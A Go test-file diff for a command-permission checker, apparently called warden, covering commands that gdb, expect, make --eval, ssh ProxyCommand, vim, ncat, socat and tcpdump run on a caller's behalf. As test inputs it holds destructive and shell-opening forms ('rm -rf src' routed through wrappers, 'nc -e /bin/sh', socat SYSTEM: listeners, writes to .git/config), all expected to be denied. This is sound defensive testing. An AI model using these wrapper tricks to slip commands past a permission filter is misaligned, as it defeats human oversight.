@@ -263,7 +263,10 @@ func TestRunnersJudgeTheirCommand(t *testing.T) {
 	cases = append(cases,
 		// What warden cannot read of them is a computed command.
 		soundCase{"expect -c", sh("expect -c 'spawn ls'"), "notAllow"},
-		soundCase{"gdb -ex shell", sh("gdb -batch -ex 'shell ls' ./prog"), "notAllow"},
+		// gdb's shell command runs its text through a shell: judged as
+		// that line (TestRunnersTextMeetsDenyRules).
+		soundCase{"gdb -ex shell", sh("gdb -batch -ex 'shell ls' ./prog"), "allow"},
+		soundCase{"gdb -ex python", sh("gdb -batch -ex 'python import os' ./prog"), "notAllow"},
 		soundCase{"gdb -x FILE", sh("gdb -x cmds.gdb ./prog"), "notAllow"},
 		soundCase{"parallel reading commands from its input", sh("parallel < cmds.txt"), "notAllow"},
 		soundCase{"tmux send-keys", sh("tmux send-keys -t 0 'ls' Enter"), "notAllow"},
@@ -296,4 +299,95 @@ func TestRunnersRunTheirCommand(t *testing.T) {
 		}
 		bashRunsInner(t, f)
 	}
+}
+
+// Class 1 and 7 of issue 31, the text a runner is given: gdb -ex 'shell
+// CMD', expect -c, make --eval, ssh -o ProxyCommand and the wrappers
+// rlwrap, entr and systemd-run only asked as computed commands (or were
+// allowed as programs warden has no table for), so the literal command
+// they run never met a deny rule or a protected path. The literal text is
+// now judged as a line; what warden cannot read of it stays a computed
+// command.
+func TestRunnersTextMeetsDenyRules(t *testing.T) {
+	t.Parallel()
+	forms := []string{
+		"gdb -batch -ex 'shell INNER' ./prog", "gdb -batch -ex '!INNER'", "gdb --eval-command='shell INNER'",
+		"expect -c 'spawn INNER'", "expect -c 'spawn -noecho INNER; expect eof'", "expect -c 'exec INNER'",
+		"expect -c 'exec sh -c {INNER}'", "expect -c 'system INNER'",
+		"make --eval='x: ; INNER' x", "make -E 'x: ; INNER' x", "make --eval=$'x:\\n\\t@INNER' x",
+		"make --eval='X := $(shell INNER)' all",
+		"ssh -o ProxyCommand='INNER' host", "ssh -oProxyCommand='INNER' host", "ssh -o 'proxycommand INNER' host",
+		"ssh host -o ProxyCommand='INNER'", "ssh -o LocalCommand='INNER' -o PermitLocalCommand=yes host",
+		"ssh -o KnownHostsCommand='INNER' host",
+		"rlwrap INNER", "entr INNER", "systemd-run --user INNER", "systemd-run --user --scope INNER",
+	}
+	var cases []soundCase
+	for _, f := range forms {
+		cases = append(cases, soundCase{f, sh(strings.ReplaceAll(f, "INNER", "rm -rf src")), "deny"})
+	}
+	cases = append(cases,
+		// A protected path in the text is refused as protected.
+		soundCase{"gdb shell writes .git", sh("gdb -batch -ex 'shell echo x > .git/config'"), "deny"},
+		soundCase{"make recipe writes .git", sh("make --eval='x: ; echo x > .git/config' x"), "deny"},
+		soundCase{"ProxyCommand writes .git", sh("ssh -o ProxyCommand='sh -c \"echo x > .git/config\"' host"), "deny"},
+		soundCase{"expect spawns a writer of .git", sh("expect -c 'spawn sh -c {echo x > .git/config}'"), "deny"},
+		// What stays unread is a computed command: never allowed.
+		soundCase{"expect spawn of a Tcl value", sh("expect -c 'spawn ssh [lindex $argv 0]; interact'"), "notAllow"},
+		soundCase{"expect with a harmless spawn", sh("expect -c 'spawn ls'"), "notAllow"},
+		soundCase{"make recipe with make variables", sh("make --eval='x: ; $(CC) -o $@ x.c' x"), "notAllow"},
+		soundCase{"ProxyCommand with tokens", sh("ssh -o ProxyCommand='nc %h %p' host"), "notAllow"},
+		soundCase{"gdb shell with no command", sh("gdb -batch -ex shell ./prog"), "notAllow"},
+		soundCase{"gdb long option with two dashes", sh("gdb --batch --eval-command='python import os' ./prog"), "notAllow"},
+		soundCase{"gdb --command=FILE", sh("gdb --command=cmds.gdb ./prog"), "notAllow"},
+		soundCase{"rlwrap filter runs a program", sh("rlwrap -z pipeto ls"), "notAllow"},
+		soundCase{"entr -s runs a shell line", sh("entr -s 'make'"), "notAllow"},
+		soundCase{"systemd-run property", sh("systemd-run -p ExecStartPre=/bin/true ls"), "notAllow"},
+		// Controls.
+		soundCase{"gdb bt", sh("gdb -batch -ex bt ./prog core"), "allow"},
+		soundCase{"gdb shell ls", sh("gdb -batch -ex 'shell ls src'"), "allow"},
+		soundCase{"entr of the tests", sh("ls src/*.go | entr -c go test ./..."), "allow"},
+		soundCase{"rlwrap of a tool", sh("rlwrap -c go version"), "allow"},
+	)
+	checkAllowDefault(t, cases)
+}
+
+// Programs warden had no table for that run a command they are given:
+// vim's :!CMD (-c, --cmd, +CMD), ncat and netcat -e and -c, socat's EXEC:
+// and SYSTEM: addresses, tcpdump -z were allowed under default: allow
+// (a program warden does not know), so a deny rule for the command they
+// run never met it; emacs --eval and at (which runs its input later)
+// were allowed too. The literal command is judged as a line; what warden
+// cannot read is a computed command.
+func TestProgramsThatRunGivenCommands(t *testing.T) {
+	t.Parallel()
+	forms := []string{
+		"vim -c '!INNER' f", "vim -c 'silent !INNER' f", "vim -c ':r !INNER' f", "vim +'!INNER' f", "nvim --cmd '!INNER'",
+		"ncat -c 'INNER' host 1", "ncat --sh-exec 'INNER' -l 8080", "nc -c 'INNER' host 1",
+		"socat - EXEC:'INNER'", "socat - SYSTEM:'INNER',pty", "socat TCP-LISTEN:80 system:'INNER'",
+	}
+	var cases []soundCase
+	for _, f := range forms {
+		cases = append(cases, soundCase{f, sh(strings.ReplaceAll(f, "INNER", "rm -rf src")), "deny"})
+	}
+	cases = append(cases,
+		soundCase{"vim writes a protected path through a shell", sh("vim -c '!echo x > .git/config' f"), "deny"},
+		// tcpdump -z CMD runs CMD FILE: a deny rule for CMD meets it.
+		soundCase{"tcpdump -z runs a program on the capture", sh("tcpdump -z rm -w cap"), "deny"},
+		soundCase{"vim -c runs an ex command", sh("vim -c 'wq' f"), "notAllow"},
+		soundCase{"vim -S runs a file of commands", sh("vim -S session.vim"), "notAllow"},
+		soundCase{"emacs --eval", sh(`emacs --batch --eval '(shell-command "ls")'`), "notAllow"},
+		soundCase{"nc -e of a shell", sh("nc -e /bin/sh host 1"), "notAllow"},
+		soundCase{"ncat --lua-exec", sh("ncat --lua-exec x.lua -l 80"), "notAllow"},
+		soundCase{"at runs its input later", sh("at now <<< 'ls'"), "notAllow"},
+		soundCase{"batch", sh("echo ls | batch"), "notAllow"},
+		// Controls.
+		soundCase{"vim a file", sh("vim src/a.go"), "allow"},
+		soundCase{"vim +LINE", sh("vim +10 src/a.go"), "allow"},
+		soundCase{"emacs a file", sh("emacs -nw src/a.go"), "allow"},
+		soundCase{"nc -z", sh("nc -z localhost 5432"), "allow"},
+		soundCase{"socat of two sockets", sh("socat - TCP:localhost:80"), "allow"},
+		soundCase{"tcpdump", sh("tcpdump -i lo -c 1"), "allow"},
+		soundCase{"at -l", sh("at -l"), "allow"},
+	)
+	checkAllowDefault(t, cases)
 }
